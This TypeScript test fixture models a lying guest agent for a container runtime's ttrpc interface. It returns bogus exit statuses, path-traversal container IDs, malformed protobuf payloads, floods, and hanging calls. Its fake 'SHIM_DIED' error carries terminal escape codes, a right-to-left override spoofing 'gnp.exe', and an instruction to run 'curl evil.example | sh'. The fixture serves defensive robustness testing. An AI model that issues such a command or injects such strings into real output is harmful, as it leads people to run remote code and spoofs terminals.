/** The lies, by the word that asks for each. What a lie says nothing of is answered truthfully. */
import { sleep } from '../../../../guest/agent/src/system/wait.ts'
import { TtrpcError } from '../../../../src/ttrpc/ttrpc.ts'

/** What answers a call in the agent's place; bytes are taken for a whole message. */
export type Answer = (truth: () => unknown) => unknown
export type Lie = Readonly<Record<string, Answer>>

/** CSI of C0 and of C1, and an override of the direction of writing. */
const rude = '\u001b[2J\u009b31m\u202egnp.exe'
/** How an error of the runtime itself looks, with what a person should do. */
const posing = `[SHIM_DIED] ${rude} the shim has to be repaired. Run: curl evil.example | sh`
const never = () => new Promise<never>(() => {})
const wait = (status: number): Lie => ({ WaitProcess: async (truth) => void (await truth()) ?? { status } })
const details =
  (more: object, agentMore: object = {}): Answer =>
  async (truth) => {
    const told = (await truth()) as { agentDetails: object }
    return { ...told, ...more, agentDetails: { ...told.agentDetails, ...agentMore } }
  }

/** As many empty messages of field 2 as that: two bytes each. */
function emptyMessages(count: number): Uint8Array {
  const bytes = new Uint8Array(2 * count)
  for (let at = 0; at < bytes.length; at += 2) bytes[at] = 0x12
  return bytes
}

/** One `bytes` field with number 1. */
function bytesMessage(size: number): Uint8Array {
  const bytes = new Uint8Array(size + 4).fill(0x79)
  bytes.set([0x0a, (size & 0x7f) | 0x80, ((size >> 7) & 0x7f) | 0x80, size >> 14])
  return bytes
}

let events = 0

const lies: Readonly<Record<string, Lie>> = {
  'status-negative': wait(-1),
  'status-largest': wait(2 ** 31 - 1),
  'status-300': wait(300),
  oom: {
    GetOOMEvent: async () => {
      await sleep(0)
      return { containerId: ['somebody-elses', '../../x', 'liar'][events++ % 3] }
    },
  },
  blocks: { GetGuestDetails: details({ memBlockSizeBytes: 32n << 30n }) },
  version: { GetGuestDetails: details({}, { version: rude.repeat(1000) }) },
  'version-huge': { GetGuestDetails: details({}, { version: rude.repeat(100_000) }) },
  stats: { StatsContainer: () => emptyMessages(400_000) },
  'stats-many': { StatsContainer: () => emptyMessages(100_000) },
  error: {
    ExecProcess: () => {
      throw new TtrpcError('internal', posing)
    },
  },
  'error-code': {
    ExecProcess: () => {
      throw new TtrpcError('internal', posing, { reason: 'SHIM_DIED' })
    },
  },
  undead: { SignalProcess: () => ({}), DestroySandbox: never },
  mute: { SignalProcess: never, DestroySandbox: never },
  output: { ReadStdout: () => bytesMessage(64 * 1024), SignalProcess: () => ({}), DestroySandbox: never },
  'output-long': { ReadStdout: () => bytesMessage(1024 * 1024) },
}

/** What any call can be answered with. */
const everywhere: Readonly<Record<string, Answer>> = {
  /** A field without its end. */
  cut: () => Uint8Array.of(0x0a, 0x64, 0x41),
  /** Groups in groups, which a decoder skips one within the other. */
  deep: () => new Uint8Array(60_000).fill(0x7b),
  /** Every field in a type that is not its own. */
  untyped: () => Uint8Array.from({ length: 75 }, (_, at) => (at % 5 === 0 ? ((at / 5 + 1) << 3) | 5 : 0xff)),
  many: () => emptyMessages(30_000),
  long: () => bytesMessage(2 * 1024 * 1024 - 1),
  poser: () => {
    throw new TtrpcError('internal', posing, { reason: 'SHIM_DIED' })
  },
  mute: never,
}

/** What answers `method` when `name` was asked for: a lie of its own, or `KIND-METHOD`, one that there is for every method. */
export function lieOf(name: string, method: string): Answer | undefined {
  const [kind = '', named] = name.split('-')
  return lies[name]?.[method] ?? (named === method ? everywhere[kind] : undefined)
}

/**
 * Lies of the stream itself: `twice` sends every answer two times, `astray` to another stream, `flood` sends answers to no call
 * for ever.
 */
export const streamLies = { twice: 'twice', astray: 'astray', flood: 'flood' }
